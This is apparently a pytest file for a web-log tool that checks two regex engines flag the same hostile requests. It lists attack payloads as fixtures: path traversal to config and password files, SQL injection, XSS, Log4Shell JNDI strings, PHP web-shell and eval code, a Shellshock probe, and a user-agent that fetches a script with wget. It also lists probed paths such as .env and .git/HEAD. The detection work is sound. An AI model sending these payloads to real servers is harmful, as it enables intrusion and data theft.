"""Path facts flag the same requests in both engines: Python's `re` (stream) and DuckDB's RE2
(batch) run one pattern, which must stay linear-time and RE2-compatible."""

from __future__ import annotations

import duckdb
import ibis
import pytest

from scrapeguard import pathfacts
from scrapeguard.engines import live_rows, lookups

ATTACKS = [
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=..%2Fwp-config.php",
    "/static/../../../etc/hosts",
    "/%2e%2e/%2e%2e/boot.ini",
    "/cgi-bin/.%2e/.%2e/bin/sh",
    "/download?file=%252e%252e%252fconfig",
    "/index.php?page=/etc/passwd",
    "/?file=..\\..\\windows\\win.ini",
    "/x.php?p=/proc/self/environ",
    "/item.php?id=1+UNION+ALL+SELECT+1,2,3",
    "/item.php?id=1%20union%20select%20null",
    "/item.php?id=1/**/UNION/**/SELECT/**/1",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=<\u017fcript>",  # RE2 folds the long s to s under (?i); so must Python
    "/?x=${jndi:ldap://198.51.100.9/a}",
    "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
    "/index.php?c=eval(base64_decode(%22ZWNobw%22))",
    "/?cmd=die('===!'.'===');",
    "/?q=die('z!a'.'x');&w=die('z!a'.'x');",
    "/?q=print-439573653*57;&w=print-439573653*57;",
    "/x.php?a=print(12%2a3)",
]
CLEAN = [
    "/",
    "/../Clipart/Mtb150.jpg",  # an old browser keeps a broken relative link's climb above root
    "/../../img/logo.gif",
    "/blog/2016/05/union-selection-results/",
    "/search?q=union+station+selections",
    "/scripts/app.js",
    "/a/b.c/d..e",
    "/etc/passwords-faq.html?from=blog",
    "/?s=..",
    "/wp-content/uploads/2016/05/photo...jpg",
    "/search?q=solar+system+(planets)",
    "/blog/2016/how-to-die-young/",
    "/?p=print-friendly",
    "/search?q=printer+3*4+photo",
]


def _duckdb(pattern: str, path: str) -> bool:
    return bool(duckdb.sql("SELECT regexp_matches(?, ?)", params=[path, pattern]).fetchall()[0][0])


@pytest.mark.parametrize("path", ATTACKS)
def test_attack_payloads_are_flagged_by_both_engines(path: str) -> None:
    assert pathfacts.attack_regex().search(path)
    assert _duckdb(pathfacts.attack_pattern(), path)


@pytest.mark.parametrize("path", CLEAN)
def test_ordinary_paths_are_not_attacks(path: str) -> None:
    assert not pathfacts.attack_regex().search(path)
    assert not _duckdb(pathfacts.attack_pattern(), path)


@pytest.mark.parametrize(("path", "login"), [
    ("/wp-login.php", True), ("/blog/wp-login.php", True), ("/xmlrpc.php", True),
    ("/login", True), ("/user/login/", True), ("/admin/login", True), ("/signin", True),
    ("/users/sign_in", True), ("/blog/login-tips", False), ("/wp-admin/post.php", False),
    ("/loginhelp", False),
])
def test_login_endpoints(path: str, login: bool) -> None:
    assert bool(pathfacts.LOGIN_REGEX.search(path)) is login
    assert _duckdb(pathfacts.LOGIN_PATH, path) is login


@pytest.mark.parametrize(("path", "author"), [
    ("/?author=2", "2"), ("/blog/?p=1&author=17", "17"), ("/?author=3&paged=2", "3"),
    ("/?author=", None), ("/?coauthor=4", None), ("/?author=2x", None), ("/author/admin/", None),
])
def test_author_ids(path: str, author: str | None) -> None:
    found = pathfacts.AUTHOR_REGEX.search(path)
    assert (found.group(1) if found else None) == author
    extracted = duckdb.sql("SELECT regexp_extract(?, ?, 1)", params=[path, pathfacts.AUTHOR_ID])
    assert (extracted.fetchall()[0][0] or None) == author


TARGETS = [
    "/wp-admin/", "/blog/wp-admin/", "/old/wp-admin/install.php", "/wp-login.php",
    "/administrator/index.php", "/admin.php", "/admin/", "/phpMyAdmin/scripts/setup.php",
    "/pma/", "/bitrix/admin/", "/.git/HEAD", "/.env", "/.env.save", "/wp-config.php.bak",
    "/wp-config.php~", "/backup.zip", "/dump.sql", "/license.php", "/readme.html",
    "/FCKeditor/editor/filemanager/connectors/test.html", "/c99.php", "/wp-content/up.php",
    "/wp-content/plugins/revslider/readme.txt", "/wp-content/uploads/shell.php",
    "/cgi-bin/php5", "/server-status", "/phpinfo.php", "/wp-content/plugins/revslider/",
    "/components/com_jnews/includes/", "/shop/admin/banner_manager.php", "/joomla",
    "/admin/Cms_Wysiwyg/directive/index/", "/admin/spaw/spacer.gif",
    "/shop/admin/banner_manager.php/login.php",
    "/js/mage/cookies.js", "/shop/js/mage/cookies.js", "/downloader/", "/index.php/admin/",
    "/app/etc/local.xml", "/wp-content/plugins/revslider/js/rev_admin.js",
    "/wp-content/plugins/dzs-zoomsounds/admin/admin.js",
    "/wp-content/plugins/x/admin-style.css", "/wp-content/plugins/x/css/admin/main.css",
]
NOT_TARGETS = [
    "/", "/blog/2016/05/admin-tips/", "/administration-fees.html", "/tags/mysql/",
    "/wp-content/uploads/2016/05/photo.jpg", "/wp-content/plugins/jetpack/css/jetpack.css",
    "/files/backup-howto.html", "/configure", "/products/shell-oil", "/user/4411",
    "/readme-first/", "/blog/git-tips/", "/wp-content/plugins/jetpack/modules/x.js",
    "/blog/components/", "/joomla-tips/", "/js/jquery/cookies.js", "/downloads/",
    "/index.php/about/", "/wp-content/themes/u-design/scripts/script.js",
    "/wp-content/plugins/wysija-newsletters/js/tinymce/tiny_mce.js",
    "/wp-content/themes/sport/js/badminton.js",
]


@pytest.mark.parametrize("path", TARGETS)
def test_scanner_targets_are_flagged_by_both_engines(path: str) -> None:
    assert pathfacts.target_regex().search(path)
    assert _duckdb(pathfacts.target_pattern(), path)


@pytest.mark.parametrize("path", NOT_TARGETS)
def test_ordinary_paths_are_not_targets(path: str) -> None:
    assert not pathfacts.target_regex().search(path)
    assert not _duckdb(pathfacts.target_pattern(), path)


@pytest.mark.parametrize(("ua", "attack"), [
    ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:4:"\\0\\0\\0a";', True),
    ("() { :; }; echo Content-type:text/plain; /bin/uname -a", True),
    ("() { ignored;}; /bin/bash -c 'id'", False),  # no `:;` body: not Shellshock's probe
    ("Mozilla/5.0' union select 1,2,3-- ", True),
    ("<?php system($_GET['c']); ?>", True),
    ("x; wget http://198.51.100.9/bot.sh", True),
    ("${jndi:ldap://198.51.100.9/a}", True),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36", False),
    ("Wget/1.14 (linux-gnu)", False),
    ("curl/8.5.0", False),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
    (None, False),
    ("", False),
])
def test_user_agent_payloads(ua: str | None, attack: bool) -> None:
    assert pathfacts.ua_attack(ua) is attack


@pytest.mark.parametrize(("path", "script"), [
    ("/tmp.php", True), ("/a/b.PHP5", True), ("/default.aspx", True), ("/cgi-bin/x.cgi", True),
    ("/index.jsp", True), ("/about.html", False), ("/php/", False), ("/x.php/extra", False),
])
def test_scripts(path: str, script: bool) -> None:
    assert bool(pathfacts.SCRIPT_REGEX.search(path)) is script
    assert _duckdb(pathfacts.SCRIPT_PATH, path) is script
@pytest.mark.parametrize(("path", "form"), [
    ("/wp-comments-post.php", True), ("/blog/wp-comments-post.php", True),
    ("/wp-login.php?action=register", True),
    ("/wp-login.php?redirect_to=%2F&action=register", True),
    ("/wp-login.php?registration=disabled", True), ("/wp-signup.php", True),
    ("/user/register", True), ("/forum/register.php", True),
    ("/index.php?option=com_users&view=registration", True), ("/ucp.php?mode=register", True),
    ("/index.php?m=member&c=index&a=register&siteid=1", True),
    ("/wp-login.php", False), ("/wp-login.php?action=lostpassword", False),
    ("/wp-login.php?action=registered", False), ("/register", False),
    ("/wiki/registry-editor/", False), ("/2015/a-post/?replytocom=5", False),
])
def test_form_handlers_by_name(path: str, form: bool) -> None:
    assert bool(pathfacts.FORM_REGEX.search(path)) is form
    assert _duckdb(pathfacts.FORM_PATH, path) is form


@pytest.mark.parametrize(("path", "form"), [
    ("/register", True), ("/account/signup/", True), ("/comments/new", True),
    ("/main/authorization/signUp", True), ("/registered-users", False), ("/comments", False),
])
def test_forms_by_generic_name(path: str, form: bool) -> None:
    assert bool(pathfacts.SITE_FORM_REGEX.search(path)) is form
    assert _duckdb(pathfacts.SITE_FORM_PATH, path) is form


@pytest.mark.parametrize(("path", "inbox"), [
    ("/inbox", True), ("/users/alice/inbox", True), ("/u/bob/inbox/", True),
    ("/accounts/chan/inbox", True), ("/actor/inbox", True), ("/ap/users/12/inbox", True),
    ("/messages/inbox", False), ("/inbox.php", False), ("/users/alice/outbox", False),
    ("/users/alice", False),
])
def test_activitypub_inboxes(path: str, inbox: bool) -> None:
    """Where federated servers deliver (`is_peer_delivery`), and a site's own message pages."""
    assert bool(pathfacts.INBOX_REGEX.search(path)) is inbox
    assert _duckdb(pathfacts.INBOX_PATH, path) is inbox


@pytest.mark.parametrize(("path", "software"), [
    ("/feed/", True), ("/2015/05/a-post/feed/", True), ("/feed/atom/", True),
    ("/sitemap.xml", True), ("/index.rss", True), ("/api/v2/items/7", True),
    ("/wp-json/wp/v2/posts/12", True), ("/graphql", True), ("/xmlrpc.php", True),
    ("/2015/05/feeding-cats/", False), ("/apiary/", False), ("/", False),
])
def test_feed_and_api_paths(path: str, software: bool) -> None:
    assert bool(pathfacts.FEED_OR_API_REGEX.search(path)) is software
    assert _duckdb(pathfacts.FEED_OR_API_PATH, path) is software


@pytest.mark.parametrize(("path", "named"), [
    ("/favicon.ico", True), ("/apple-touch-icon-precomposed.png", True),
    ("/img/favicon.ico", False), ("/wp-content/themes/t/style.css", False),
])
def test_files_browsers_fetch_by_name(path: str, named: bool) -> None:
    assert bool(pathfacts.BROWSER_FETCHED_REGEX.search(path)) is named
    assert _duckdb(pathfacts.BROWSER_FETCHED, path) is named


SELF_REFERERS = [  # (request path as counted, referer): the page itself, in another spelling
    ("/administrator", "http://blog.example/administrator/"),
    ("/xmlrpc.php", "http://blog.example//xmlrpc.php"),
    ("/wp-admin", "https://www.blog.example/wp-admin//"),
    ("/?author=1", "http://blog.example/?author=1"),
]
LINKS = [
    ("/administrator", "http://blog.example/"),
    ("/?author=2", "http://blog.example/?p=7"),
    ("/x?a=1", "http://blog.example/y/?a=1"),
]


@pytest.mark.parametrize(("path", "referer"), SELF_REFERERS + LINKS)
def test_referers_are_links_alike_in_both_engines(path: str, referer: str) -> None:
    """`canonical.py` drops a trailing slash and empty segments from the request's path; a
    referer naming the same page in its raw spelling is a self-referer, not a link (the
    forgery scanners send most), in both engines."""
    expected = (path, referer) in LINKS
    assert live_rows.is_page_link(path, referer) == expected
    table = ibis.memtable({"path": [path], "referer": [referer]})
    batch = table.select(
        link=lookups.is_page_link(table.path, lookups.referer_page(table.referer))).execute()
    assert bool(batch["link"][0]) == expected
    if "?" not in path and "?" not in referer:
        assert live_rows.is_link(path, referer) == expected
        batch = table.select(
            link=lookups.is_link(table.path, lookups.referer_path(table.referer))).execute()
        assert bool(batch["link"][0]) == expected
